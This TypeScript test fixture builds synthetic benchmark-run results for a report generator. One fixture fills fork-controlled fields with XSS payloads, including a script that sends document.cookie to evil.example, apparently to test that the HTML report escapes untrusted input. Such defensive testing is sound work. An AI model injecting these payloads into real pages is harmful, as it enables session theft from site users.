import type { Results } from "../../core/results.js";
import { type Comparison, compareResults } from "../../report/compare.js";
import { baseAndCurrent, buildResults, parsedResults, sha } from "./build-results.js";

/** Five earlier runs on main (one of them all infra errors) and the PR run from `baseAndCurrent`. */
export function trendFixture(): { comparison: Comparison; history: Results[] } {
  const { base, current } = baseAndCurrent();
  const ids = current.scenarios.map((s) => s.instance_id);
  const earlier = [0.2, 0.35, null, 0.5].map((level, i) =>
    buildResults({
      run_id: `run-main-${i + 1}`,
      commit: String(i + 1),
      created_at: `2025-02-0${i + 1}T12:00:00Z`,
      scenarios: ids.map((id, j) => ({
        id,
        rewards:
          level === null ? [null, null, null] : [0, 1, 2].map((a) => (((j + a) % 10) / 10 < level ? 1 : 0)),
      })),
    }),
  );
  // Out of order on purpose: the report sorts by created_at.
  return {
    comparison: compareResults(current, base),
    history: [earlier[2]!, base, earlier[0]!, earlier[3]!, earlier[1]!],
  };
}

/** A run whose every string a fork controls is an injection attempt. */
export function hostileComparison(): Comparison {
  const commit = sha("d");
  const results = parsedResults({
    schema: "repogym/results@1",
    tool_version: "repogym <script>alert(1)</script>",
    repo: "acme/calc",
    commit,
    ref: '"><img src=x onerror=alert(1)>',
    run_id: "run-fork",
    created_at: "</title><script>alert(1)</script>",
    agent: { name: "<img src=x onerror=alert(1)>", model: "'\"><svg onload=alert(1)>" },
    attempts: 1,
    scenarios: [{ instance_id: "acme__calc-0a0a0a0a0a", lines: 3, files: 1 }],
    rollouts: [
      {
        instance_id: "acme__calc-0a0a0a0a0a",
        attempt: 1,
        status: "scored",
        reward: 0.25,
        resolved: false,
        reason: "</td></tr></table><script>fetch('https://evil.example/'+document.cookie)</script>",
        duration_ms: 1000,
      },
    ],
  });
  return compareResults(results, null);
}
